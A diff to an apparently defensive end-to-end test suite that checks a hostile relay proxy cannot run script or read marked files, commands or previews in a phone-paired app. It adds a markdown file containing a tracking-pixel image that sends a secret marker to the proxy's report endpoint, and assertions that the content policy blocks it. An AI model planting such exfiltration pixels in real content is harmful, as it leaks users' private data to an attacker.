@@ -17,7 +17,7 @@ import { createShellSession, keepLightAndDark, PHONE_CONTEXT, sendCommand, waitC
 import { startPassthroughAssembly, waitForCertificate, writePreviewSite, type PassthroughAssembly } from './passthroughAssembly';
 
 /** Bounds of this file's waits, in one place. */
-const TIMEOUTS = { certificate: 120_000, step: 30_000, reconnect: 60_000 };
+const TIMEOUTS = { test: 180_000, certificate: 120_000, step: 30_000, reconnect: 60_000 };
 const FILE_MARKER = 'hostile-file-marker-ZP4Q8';
 const MESSAGE_MARKER = 'hostile-message-marker-k7tnm';
 /** The command upper-cases its message's marker: the output holds bytes the message does not. */
@@ -52,6 +52,8 @@ describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in
       prepareProject: (dir) => {
         writePreviewSite(dir, PREVIEW_MARKER);
         fs.writeFileSync(path.join(dir, 'notes.txt'), `Private notes\n${FILE_MARKER}\n`);
+        // An image that would carry a secret to the proxy if the app ever fetched it.
+        fs.writeFileSync(path.join(dir, 'leak.md'), `# Leak\n\n![pixel](${proxy.reportOrigin}/report?origin=image-leak-${FILE_MARKER})\n`);
       },
       // The proxy is the relay's public TLS port; the nodes' balancer is behind it.
       publicTlsPort: (balancer) => {
@@ -69,7 +71,7 @@ describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in
     await relay?.stop();
     await proxy?.close();
     impostorCertificates?.remove();
-  });
+  }, TIMEOUTS.test);
 
   it('RLY-6 through the proxy (forwarding for now) the phone pairs, reads a marked file, runs a command with a marked message and output, and opens a marked preview', async () => {
     await page.goto(relay.printedLink);
@@ -87,9 +89,16 @@ describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in
     await page.goto(`${relay.appOrigin}/${routeHash({ kind: 'files', projectDirectory: relay.dirs.projectDirs[0]!, path: 'notes.txt' })}`);
     await page.getByText(FILE_MARKER).first().waitFor({ timeout: TIMEOUTS.step });
     await keepLightAndDark(page, 'relay', 'passthrough-hostile-file-phone');
+    await page.goto(`${relay.appOrigin}/${routeHash({ kind: 'files', projectDirectory: relay.dirs.projectDirs[0]!, path: 'leak.md' })}`);
+    // The app's content policy keeps the image's request from leaving (img-src 'self'): it settles unloaded.
+    const image = page.locator('.markdown-view img[alt="pixel"]');
+    await image.waitFor({ timeout: TIMEOUTS.step });
+    await waitUntil(() => image.evaluate((img) => (img as HTMLImageElement).complete), 'the image settles', TIMEOUTS.step);
+    expect(await image.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(0);
+    expect(proxy.reports.filter((origin) => origin.includes(FILE_MARKER))).toEqual([]);
     await previewFrame();
     expect(proxy.tlsConnections.forward).toBeGreaterThan(0);
-  });
+  }, TIMEOUTS.test);
 
   it('RLY-6 flipped, injected, replayed and reset TLS records break only the connection: no script of the proxy runs, and the app reconnects once it forwards again', async () => {
     await page.goto(`${relay.appOrigin}/#/`);
@@ -112,7 +121,7 @@ describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in
     }
     await stranger.context().close();
     expect(proxy.reports).toEqual([]);
-  });
+  }, TIMEOUTS.test);
 
   it('RLY-6 the proxy’s own certificate for the desktop’s name is refused; its plain-HTTP page runs only in its own origin', async () => {
     proxy.setMode('own-certificate', impostorCertificates);
@@ -152,7 +161,7 @@ describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in
     await waitUntil(async () => (await context.cookies(relay.appOrigin)).length === 0, 'the flood of cookies is dropped', TIMEOUTS.step);
     // The proxy's script ran where it served it in the clear, never in the app's or a preview's origin.
     expect(new Set(proxy.reports)).toEqual(new Set([`http://${new URL(relay.appOrigin).host}`]));
-  });
+  }, TIMEOUTS.test);
 
   it('RLY-6 no byte of the marked file, output, message or preview reached the proxy in plaintext', () => {
     const seen = proxy.seen();
@@ -162,5 +171,5 @@ describe('RLY-6 a hostile relay between Chromium and the nodes runs no script in
     // handshake (SNI), and the plain-HTTP request.
     expect(seen.includes(Buffer.from(new URL(relay.appOrigin).hostname))).toBe(true);
     expect(seen.includes(Buffer.from('GET / HTTP/1.1'))).toBe(true);
-  });
+  }, TIMEOUTS.test);
 });
